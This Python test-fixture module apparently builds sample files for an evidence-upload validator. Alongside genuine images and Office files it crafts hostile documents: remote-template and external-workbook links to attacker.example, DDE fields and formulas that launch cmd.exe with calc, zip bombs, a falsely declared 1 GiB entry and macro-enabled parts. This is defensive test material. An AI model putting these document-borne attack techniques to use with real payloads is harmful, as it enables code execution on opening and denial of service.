"""Small genuine files of every kind the evidence upload meets, built in memory."""

import io
import struct
import zipfile
import zlib

import openpyxl

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{content_type}"/>'
    "{extra}</Types>"
)


def png(width: int = 2, height: int = 2) -> bytes:
    """A real PNG image (grey pixels)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    rows = b"".join(b"\x00" + b"\x80\x80\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def pdf(padding: int = 0) -> bytes:
    return b"%PDF-1.4\n1 0 obj <<>> endobj\n" + b"%" * padding + b"\ntrailer <<>>\n%%EOF\n"


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "NPS 2026"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def office(part: str, content_type: str, *, extra_parts=(), extra_types="") -> bytes:
    """A zip shaped like an Office document: its content types and its main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            CONTENT_TYPES.format(part=part, content_type=content_type, extra=extra_types),
        )
        archive.writestr(part, "<document/>")
        for name in extra_parts:
            archive.writestr(name, b"\x00binary")
    return buffer.getvalue()


def docx() -> bytes:
    return office(
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    )


def pptx() -> bytes:
    return office(
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    )


def xlsm() -> bytes:
    """A macro-enabled workbook (as an .xlsm renamed .xlsx would be)."""
    return office(
        "xl/workbook.xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        extra_parts=["xl/vbaProject.bin"],
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")  # no [Content_Types].xml
    return buffer.getvalue()


# Office documents that are refused although their type is accepted: built here, small and fast.

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def document(part: str, content_type: str, parts: dict[str, bytes | str]) -> bytes:
    """An Office document's zip (deflated) with these parts beside its main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            CONTENT_TYPES.format(part=part, content_type=content_type, extra=""),
        )
        archive.writestr(part, "<document/>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb(part: str = "xl/workbook.xml", megabytes: int = 4) -> bytes:
    """A zip whose main part is megabytes of zeros, streamed in: it packs to a few KB."""
    content_type = XLSX_MAIN if part.startswith("xl/") else DOCX_MAIN
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            CONTENT_TYPES.format(part=part, content_type=content_type, extra=""),
        )
        with archive.open(part, "w") as main:
            for _ in range(megabytes * 16):
                main.write(bytes(64 * 1024))
    return buffer.getvalue()


def declaring(part: str = "word/document.xml", size: int = 2**30) -> bytes:
    """A small zip whose main part's directory entry declares `size` bytes unpacked (1 GiB)."""
    content_type = XLSX_MAIN if part.startswith("xl/") else DOCX_MAIN
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            CONTENT_TYPES.format(part=part, content_type=content_type, extra=""),
        )
        archive.writestr(part, "<document/>" * 1000)
        archive.getinfo(part).file_size = size  # written into the central directory on close
    return buffer.getvalue()


def docx_with(parts: dict[str, bytes | str]) -> bytes:
    return document("word/document.xml", DOCX_MAIN, parts)


def xlsx_with(parts: dict[str, bytes | str]) -> bytes:
    return document("xl/workbook.xml", XLSX_MAIN, parts)


def relationship(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return RELS.format(
        f'<Relationship Id="rId1" Type="{OFFICE_RELS}/{kind}" Target="{target}"{mode}/>'
    )


def remote_template_docx() -> bytes:
    """Word fetches the template from the address when the document opens."""
    rels = relationship("attachedTemplate", "http://attacker.example/template.dotm")
    return docx_with({"word/settings.xml": "<settings/>", "word/_rels/settings.xml.rels": rels})


def hyperlink_docx() -> bytes:
    """A link that Word follows only when it is clicked: accepted."""
    rels = relationship("hyperlink", "https://example.com/beleid")
    return docx_with({"word/_rels/document.xml.rels": rels})


def dde_field_docx() -> bytes:
    """A DDEAUTO field in the header: Word offers to start the program when it opens."""
    field = (
        r'<w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText>'
    )
    return docx_with({"word/header1.xml": f"<w:hdr><w:r>{field}</w:r></w:hdr>"})


def dde_link_xlsx() -> bytes:
    """A workbook with a DDE link (Excel asks to start the program), as Excel stores one."""
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return xlsx_with({"xl/externalLinks/externalLink1.xml": link})


def external_workbook_xlsx() -> bytes:
    """A workbook whose formulas read another workbook on a server."""
    rels = relationship("externalLinkPath", "http://attacker.example/prices.xlsx")
    return xlsx_with(
        {
            "xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
        }
    )


def dde_formula_xlsx() -> bytes:
    """A real workbook (openpyxl) with a DDE formula in a cell."""
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "=cmd|' /C calc'!A0"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def nested_archive_docx() -> bytes:
    return docx_with({"word/embeddings/inner.zip": plain_zip()})


def chart_docx(workbook: bytes | None = None) -> bytes:
    """A document with a chart: Word keeps the chart's data as a workbook in word/embeddings/."""
    return docx_with({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook or xlsx()})


def chart_pptx() -> bytes:
    return document(
        "ppt/presentation.xml",
        PPTX_MAIN,
        {"ppt/embeddings/Microsoft_Excel_Worksheet1.xlsx": xlsx()},
    )


def many_parts_docx(count: int) -> bytes:
    return docx_with({f"word/media/image{n}.png": png() for n in range(count)})


def encrypted_docx() -> bytes:
    """A DOCX whose parts say they are encrypted (the flag set in every header)."""
    content = bytearray(docx())
    for signature, offset in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)]:
        start = content.find(signature)
        while start != -1:
            content[start + offset] |= 0x01
            start = content.find(signature, start + 4)
    return bytes(content)
